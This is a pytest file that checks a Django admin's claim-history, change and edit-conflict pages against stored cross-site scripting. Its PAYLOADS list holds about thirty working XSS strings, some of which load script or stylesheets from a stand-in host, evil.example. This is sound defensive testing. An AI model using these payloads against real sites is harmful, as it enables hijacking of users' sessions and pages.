"""Does markup that was typed into a field run when its history is read?"""

import pytest

from claims.models import Claim
from config.db.history import audit_context
from tests.factories import ClaimFactory, EvidenceFactory, PublisherFactory, TopicFactory, UserFactory, VerdictFactory
from tests.support.forms import claim_form

pytestmark = pytest.mark.django_db(transaction=True)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</dd></dl></ol><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>here</a>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>Save</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "\" onmouseover=alert(1) x=\"",
    "' autofocus onfocus=alert(1) '",
    "{{ constructor.constructor('alert(1)')() }}",
    "<div x-data x-init=\"alert(1)\"></div>",
    "<div x-data=\"{a: alert(1)}\" @click=\"alert(1)\">",
    "javascript:alert(1)//${alert(1)}`${alert(1)}`",
]  # fmt: skip
AFTER_TWO_FRAMES = """
    () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))))
"""


@pytest.fixture
def attacked(client):
    """Return a verdict on a claim whose fields have held each payload, one after another."""
    claim = EvidenceFactory(claim__statement="The summit ended.").claim
    verdict = VerdictFactory(claim=claim, publisher=PublisherFactory(name=PAYLOADS[0]))
    for number, payload in enumerate(PAYLOADS):
        with audit_context(username=payload, route=payload, reason=payload, request_id=payload):
            fields = {"statement": payload, "place": payload, "context": payload, "external_ref": payload}
            Claim.objects.filter(pk=claim.pk).update(**fields)
            claim.verdicts.update(summary=payload, explanation=payload, label=payload)
            claim.evidence.update(note=payload)
            claim.claim_topics.create(topic=TopicFactory(slug=f"topic{number}", names={"en": payload}))
    return verdict


def test_no_payload_runs_on_the_pages_of_a_history(visit, client, attacked):
    visit.log_in(client, UserFactory(username="nora", is_staff=True, is_superuser=True))
    opened = []
    visit.page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    claim = f"/admin/claims/claim/{attacked.claim_id}"
    pages = [f"{claim}/history/", f"{claim}/change/", f"/admin/claims/verdict/{attacked.pk}/history/"]
    while pages:
        page = visit(pages.pop())
        page.evaluate(AFTER_TWO_FRAMES)  # what begins once the page is shown, as animations do, has begun
        page.mouse.move(200, 300)
        page.keyboard.press("Tab")
        assert page.locator(".desk-history img, .desk-history iframe, .desk-history script").count() == 0
        earlier = page.get_by_role("link", name="Earlier changes")
        if earlier.count():
            pages.append(page.url.split("?")[0].replace(visit.site, "") + earlier.get_attribute("href"))
    assert opened == []
    shown = page.locator("body").inner_text()
    assert PAYLOADS[0] in shown, "it is there to be read"


def test_no_payload_runs_where_a_change_is_refused(visit, client):
    visit.log_in(client, UserFactory(username=PAYLOADS[7], is_staff=True, is_superuser=True))
    claim = ClaimFactory()
    opened = []
    visit.page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    page = visit(f"/admin/claims/claim/{claim.pk}/change/")
    client.post(f"/admin/claims/claim/{claim.pk}/change/", claim_form(context=PAYLOADS[9]))
    page.fill("#id_context", PAYLOADS[7])
    page.get_by_role("button", name="Save", exact=True).click()
    conflict = page.locator(".desk-conflict")
    assert PAYLOADS[7] in conflict.inner_text(), "the other person has a name like that"
    assert PAYLOADS[9] in conflict.inner_text()
    assert page.input_value("#id_context") == PAYLOADS[7]
    conflict.get_by_label("Keep what is in the field").check()
    page.get_by_role("button", name="Save", exact=True).click()
    page.wait_for_url("**/admin/claims/claim/")
    claim.refresh_from_db()
    assert (claim.context, opened) == (PAYLOADS[7], [])
